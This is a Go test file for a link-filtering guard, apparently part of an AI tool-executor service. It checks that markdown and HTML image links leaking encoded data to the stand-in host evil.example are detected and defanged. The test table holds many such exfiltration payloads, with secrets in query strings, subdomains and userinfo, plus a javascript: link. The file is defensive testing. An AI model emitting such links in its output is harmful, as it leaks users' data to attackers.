package link_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sallyport-mcp/sallyport/services/executor/internal/guard/link"
	"github.com/sallyport-mcp/sallyport/services/executor/internal/guard/span"
)

const data = "aGVyZSBpcyB0aGUgc2VjcmV0IG9mIHRoZSBkYXkgYW5kIG1vcmUgb2YgaXQgdG8gY29tZQ"

func TestFind(t *testing.T) {
	t.Parallel()
	g := link.New([]string{"docs.example.com", "*.good.example"})
	for text, want := range map[string]string{
		"![x](https://evil.example/p.png?d=" + data + ")":                                          "![x](hxxps://evil[.]example)",
		"![x](https://evil.example/p.png)":                                                         "",
		"![x](https://evil.example/p.png?w=200)":                                                   "",
		"![a [b] c](https://evil.example/p.png?d=0123456789abcdef)":                                "![a [b] c](hxxps://evil[.]example)",
		"![x](<https://evil.example/p.png?d=" + data + " and more>)":                               "![x](<hxxps://evil[.]example>)",
		"![x](//evil.example/" + data + ")":                                                        "![x](hxxps://evil[.]example)",
		`![x](https:\\evil.example/` + data + ")":                                                  "![x](hxxps://evil[.]example)",
		"![x](HTTPS://EVIL.example/" + data + ")":                                                  "![x](hxxps://EVIL[.]example)",
		"![x](https://" + data[:60] + ".evil.example/)":                                            "![x](hxxps://" + data[:60] + "[.]evil[.]example)",
		"[click](https://evil.example/?q=" + data + ")":                                            "[click](hxxps://evil[.]example)",
		"[click](https://evil.example/search?q=weather+tomorrow)":                                  "",
		"[click](https://evil.example/a-long-title-of-a-page-about-something-that-is-long)":        "",
		"[![x](https://evil.example/i?d=" + data + ")](https://docs.example.com/)":                 "[![x](hxxps://evil[.]example)](https://docs.example.com/)",
		"[1]: https://evil.example/?q=" + data + "\n":                                              "[1]: hxxps://evil[.]example\n",
		`<img alt=x src="https://evil.example/?d=` + data + `">`:                                   `<img alt=x src="hxxps://evil[.]example">`,
		`<IMG SRC=https://evil.example/?d=` + data + `>`:                                           `<IMG SRC=hxxps://evil[.]example>`,
		`<a href='https://evil.example/?d=` + data + `'>x</a>`:                                     `<a href='hxxps://evil[.]example'>x</a>`,
		"<https://evil.example/?d=" + data + ">":                                                   "<hxxps://evil[.]example>",
		"[x](javascript:alert(1))":                                                                 "[x](#removed-script)",
		"![x](https://user:" + data + "@evil.example/)":                                            "![x](hxxps://evil[.]example)",
		"![x](https://docs.example.com/?d=" + data + ")":                                           "",
		"![x](https://a.good.example/?d=" + data + ")":                                             "",
		"![x](https://good.example.evil.example/?d=" + data + ")":                                  "![x](hxxps://good[.]example[.]evil[.]example)",
		"<x ![a](https://evil.example/?d=" + data + ") href=https://evil.example/?d=" + data + ">": "<x ![a](hxxps://evil[.]example) href=hxxps://evil[.]example>",
		`<img alt="a > b <" src="https://evil.example/?d=` + data + `">`:                           `<img alt="a > b <" src="hxxps://evil[.]example">`,
		"a<b https://x.example/ and ![x](https://evil.example/?d=" + data + ")":                    "a<b https://x.example/ and ![x](hxxps://evil[.]example)",
		"<http is a protocol, https://x.example/?" + data:                                          "",
		"![x](/local?d=" + data + ") and a[1](x) if a<b {c = d}":                                   "",
		"see https://evil.example/?d=" + data:                                                      "",
	} {
		found := g.Find(text)
		got := span.Replace(text, found)
		if len(found) == 0 {
			got = ""
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", text, diff)
		}
	}
}

func TestCheckHost(t *testing.T) {
	t.Parallel()
	for host, good := range map[string]bool{
		"docs.example.com": true, "*.example.com": true, "localhost": true, "192.0.2.7": true,
		"": false, "*": false, "Docs.example.com": false, "https://x": false, "a/b": false, "a.*.b": false, "a:80": false,
	} {
		if err := link.CheckHost(host); (err == nil) != good {
			t.Errorf("CheckHost(%q) = %v", host, err)
		}
	}
}

func FuzzFind(f *testing.F) {
	f.Add("[![x](https://evil.example/i?d=" + data + ")](<a b>) <img src='//a?b'>")
	g := link.New(nil)
	f.Fuzz(func(t *testing.T, text string) {
		at := 0
		for _, one := range g.Find(text) {
			if one.Start < at || one.End <= one.Start || one.End > len(text) {
				t.Fatalf("found %+v in %q", one, text)
			}
			at = one.End
		}
		if strings.Contains(span.Replace(text, g.Find(text)), "](javascript:") {
			t.Fatalf("a script is left in %q", text)
		}
	})
}
